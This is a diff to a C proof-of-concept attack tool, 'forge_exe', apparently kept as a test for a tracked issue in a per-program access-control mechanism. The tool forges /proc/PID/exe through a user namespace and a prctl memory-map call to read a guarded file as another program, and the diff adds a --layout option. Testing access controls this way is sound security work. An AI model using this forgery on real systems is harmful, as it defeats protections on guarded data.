@@ -1,7 +1,7 @@
 /* An attack on per-program access (issue 17): a process of the user makes /proc/PID/exe name
  * another program, then reads a guarded item as that program.
  *
- *   forge_exe [--sharer] PROGRAM FILE
+ *   forge_exe [--sharer] [--layout STATFILE] PROGRAM FILE
  *
  * It unshares a user namespace, where it holds CAP_CHECKPOINT_RESTORE; moves every mapping of
  * its own executable into anonymous memory at the same address (mremap over it, so the code
@@ -13,6 +13,9 @@
  * unshare, the remapping and the prctl, and exits; the process itself stays in its user
  * namespace, and its /proc/PID/exe names PROGRAM all the same (the executable is the shared
  * memory's).
+ *
+ * --layout: the code, stack, brk, argv and environ addresses set with it are those STATFILE
+ * records (a /proc/PID/stat text: of the image that exec'd this one), not its own.
  *
  * Exit: 0 FILE was read; 1 FILE could not be opened or read (the errno on stderr); 2 the
  * forgery itself failed (stderr says which step). */
@@ -33,6 +36,7 @@ struct region { unsigned long start, end; int prot; };
 static struct region regions[64];
 static int count;
 static const char *program;
+static const char *layout;
 
 static int die(const char *step) {
     fprintf(stderr, "forge_exe: %s: %s\n", step, strerror(errno));
@@ -67,8 +71,8 @@ static int forge(void *unused) {
     }
 
     char stat_text[2048];
-    int fd = open("/proc/self/stat", O_RDONLY);
-    if (fd < 0) return die("/proc/self/stat");
+    int fd = open(layout ? layout : "/proc/self/stat", O_RDONLY);
+    if (fd < 0) return die(layout ? layout : "/proc/self/stat");
     n = read(fd, stat_text, sizeof stat_text - 1);
     close(fd);
     if (n <= 0) return die("read /proc/self/stat");
@@ -80,7 +84,7 @@ static int forge(void *unused) {
         .start_code = stat_field(stat_text, 26), .end_code = stat_field(stat_text, 27),
         .start_stack = stat_field(stat_text, 28),
         .start_data = stat_field(stat_text, 45), .end_data = stat_field(stat_text, 46),
-        .start_brk = stat_field(stat_text, 47), .brk = (unsigned long)sbrk(0),
+        .start_brk = stat_field(stat_text, 47), .brk = layout ? stat_field(stat_text, 47) : (unsigned long)sbrk(0),
         .arg_start = stat_field(stat_text, 48), .arg_end = stat_field(stat_text, 49),
         .env_start = stat_field(stat_text, 50), .env_end = stat_field(stat_text, 51),
         .auxv = NULL, .auxv_size = 0, .exe_fd = (unsigned)exe,
@@ -94,8 +98,13 @@ int main(int argc, char **argv) {
     int sharer = argc > 1 && strcmp(argv[1], "--sharer") == 0;
     argv += sharer;
     argc -= sharer;
+    if (argc > 2 && strcmp(argv[1], "--layout") == 0) {
+        layout = argv[2];
+        argv += 2;
+        argc -= 2;
+    }
     if (argc != 3) {
-        fprintf(stderr, "usage: forge_exe [--sharer] PROGRAM FILE\n");
+        fprintf(stderr, "usage: forge_exe [--sharer] [--layout STATFILE] PROGRAM FILE\n");
         return 2;
     }
     program = argv[1];
